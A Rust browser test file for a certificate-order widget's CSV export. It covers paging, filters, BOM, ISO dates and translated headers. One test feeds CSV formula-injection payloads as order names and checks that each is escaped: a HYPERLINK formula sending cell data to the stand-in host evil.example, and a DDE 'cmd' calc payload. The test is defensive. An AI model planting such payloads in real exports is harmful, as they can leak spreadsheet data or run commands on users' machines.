//! CSV export: every filtered page in the table's order, translated headers, ISO dates, a BOM, hostile
//! names neutralised, the download through a Blob and a link, and the `ssl-orders-exported` event.

use crate::support::{
    choose, config, control, csv_records, download_spy, fixture, fixture_with, mount_fresh,
    wait_until, DownloadSpy, Fixture,
};
use serde_json::json;
use ssl_orders::events::EXPORTED;
use ssl_orders::i18n::Lang;
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;

/// Clicks Export CSV with the download spy on, and waits until the object URL is revoked; returns the spy
/// and the file's text (BOM kept).
async fn export(f: &Fixture) -> (DownloadSpy, String) {
    let spy = download_spy();
    let before = f.events_named(EXPORTED).len();
    f.get("button[part=export]").click();
    wait_until("ssl-orders-exported", || {
        f.events_named(EXPORTED).len() > before
    })
    .await;
    wait_until("the object URL revoked", || {
        !spy.urls().is_empty() && spy.revoked() == spy.urls()
    })
    .await;
    spy.restore();
    let mut texts = spy.blob_texts().await;
    assert_eq!(texts.len(), 1, "one file per click");
    (spy, texts.remove(0))
}

/// The calendar day, in the reader's time zone, of an ISO instant (`<time datetime>`), as the file gives it.
fn local_day(iso: &str) -> String {
    let date = js_sys::Date::new(&iso.into());
    format!(
        "{:04}-{:02}-{:02}",
        date.get_full_year(),
        date.get_month() + 1,
        date.get_date()
    )
}

#[wasm_bindgen_test]
async fn export_saves_every_filtered_page_in_the_tables_order_and_tells_the_host() {
    let f = fixture().await;
    assert_eq!(f.all("tbody tr[part=row]").len(), 25, "one page shown");
    let first_on_page_1 = f.text("tbody tr[part=row] th .cell-text");
    let (spy, text) = export(&f).await;
    assert_eq!(f.events_named(EXPORTED), vec![json!({"rows": 40})]);
    let records = csv_records(&text);
    assert_eq!(
        records.len(),
        41,
        "a header row and all 40 orders, not one page"
    );
    assert_eq!(
        records[0],
        [
            "Common name",
            "Certificate type",
            "Status",
            "Ordered",
            "Expires"
        ]
    );
    assert!(records.iter().all(|r| r.len() == 5));
    assert_eq!(records[1][0], first_on_page_1);
    // Page 2 starts where the file's 26th order is.
    f.get(".pager button.next").click();
    crate::support::tick().await;
    assert_eq!(records[26][0], f.text("tbody tr[part=row] th .cell-text"));
    // The download went through the platform: a text/csv Blob, a link named ssl-orders.csv, revoked later.
    assert_eq!(spy.types(), ["text/csv;charset=utf-8"]);
    assert_eq!(spy.file_names(), ["ssl-orders.csv"]);
    assert_eq!(spy.hrefs(), spy.urls());
    assert_eq!(spy.revoked(), spy.urls(), "revoked after the click");
    assert!(f
        .text("[role=status]")
        .contains("40 orders exported to CSV."));
}

#[wasm_bindgen_test]
async fn the_file_is_utf8_with_a_bom_crlf_lines_and_iso_dates_of_the_days_the_table_shows() {
    let f = fixture().await;
    let (_, text) = export(&f).await;
    assert!(text.starts_with('\u{feff}'), "a byte order mark first");
    assert!(text[3..].starts_with("\"Common name\",") && text.ends_with("\r\n"));
    assert_eq!(text.matches("\r\n").count(), 41);
    let records = csv_records(&text);
    let shown: Vec<String> = f
        .all("tbody tr[part=row]:first-child time")
        .iter()
        .filter_map(|t| t.get_attribute("datetime"))
        .collect();
    assert_eq!(shown.len(), 2, "the first row's Ordered and Expires dates");
    assert_eq!(records[1][3], local_day(&shown[0]));
    assert_eq!(records[1][4], local_day(&shown[1]));
    let iso = |s: &str| s.len() == 10 && s.as_bytes()[4] == b'-' && s.as_bytes()[7] == b'-';
    assert!(
        records[1..].iter().all(|r| iso(&r[3])),
        "every order has an ISO order date"
    );
    // Never-issued orders (last in the default sort) have an empty Expires field.
    assert_eq!(records[40][4], "");
}

#[wasm_bindgen_test]
async fn export_keeps_only_what_the_filters_keep() {
    let f = fixture().await;
    choose(&f, "select[part=status-filter]", "Canceled").await;
    let shown = f.all("tbody tr[part=row]").len();
    assert!(shown > 0);
    let (_, text) = export(&f).await;
    let records = csv_records(&text);
    assert_eq!(records.len(), shown + 1);
    assert!(records[1..].iter().all(|r| r[2] == "Canceled"));
    assert_eq!(f.events_named(EXPORTED), vec![json!({"rows": shown})]);
    // Nothing left to export: the button says so by being disabled.
    let input: web_sys::HtmlInputElement = f.get("input[type=search]").unchecked_into();
    input.set_value("no-such-domain.invalid");
    input
        .dispatch_event(&web_sys::Event::new("input").unwrap())
        .unwrap();
    crate::support::tick().await;
    assert!(f.get("button[part=export]").has_attribute("disabled"));
}

#[wasm_bindgen_test]
async fn hostile_names_reach_the_file_as_inert_text() {
    control("POST", "reset", None).await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ];
    let orders: Vec<_> = hostile
        .iter()
        .enumerate()
        .map(|(i, name)| {
            json!({"id": 40001 + i, "commonName": name, "statusId": 3,
            "status": {"id": 3, "name": "=Complete"}, "orderItem": {"description": "@type"}})
        })
        .collect();
    control("PUT", "orders", Some(json!(orders))).await;
    let f = mount_fresh(config());
    f.wait_for_state("ready").await;
    let (_, text) = export(&f).await;
    let records = csv_records(&text);
    assert_eq!(records.len(), 1 + hostile.len());
    let mut names: Vec<&str> = records[1..].iter().map(|r| r[0].as_str()).collect();
    names.sort_unstable();
    let mut expected: Vec<String> = hostile.iter().map(|n| format!("'{n}")).collect();
    expected.sort_unstable();
    assert_eq!(names, expected);
    assert!(records[1..]
        .iter()
        .all(|r| r[1] == "'@type" && r[2] == "'=Complete"));
    assert!(
        text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\""),
        "quoted, its quotes doubled"
    );
}

#[wasm_bindgen_test]
async fn the_headers_are_the_columns_names_in_the_widgets_language() {
    let mut cfg = config();
    cfg.lang = Some(Lang::Es);
    let f = fixture_with(cfg).await;
    f.wait_for_state("ready").await;
    assert_eq!(f.text("button[part=export]"), "Exportar CSV");
    let (_, text) = export(&f).await;
    assert_eq!(
        csv_records(&text)[0],
        [
            "Nombre común",
            "Tipo de certificado",
            "Estado",
            "Pedido",
            "Caduca"
        ]
    );
    assert!(f
        .text("[role=status]")
        .contains("40 pedidos exportados a CSV."));
}
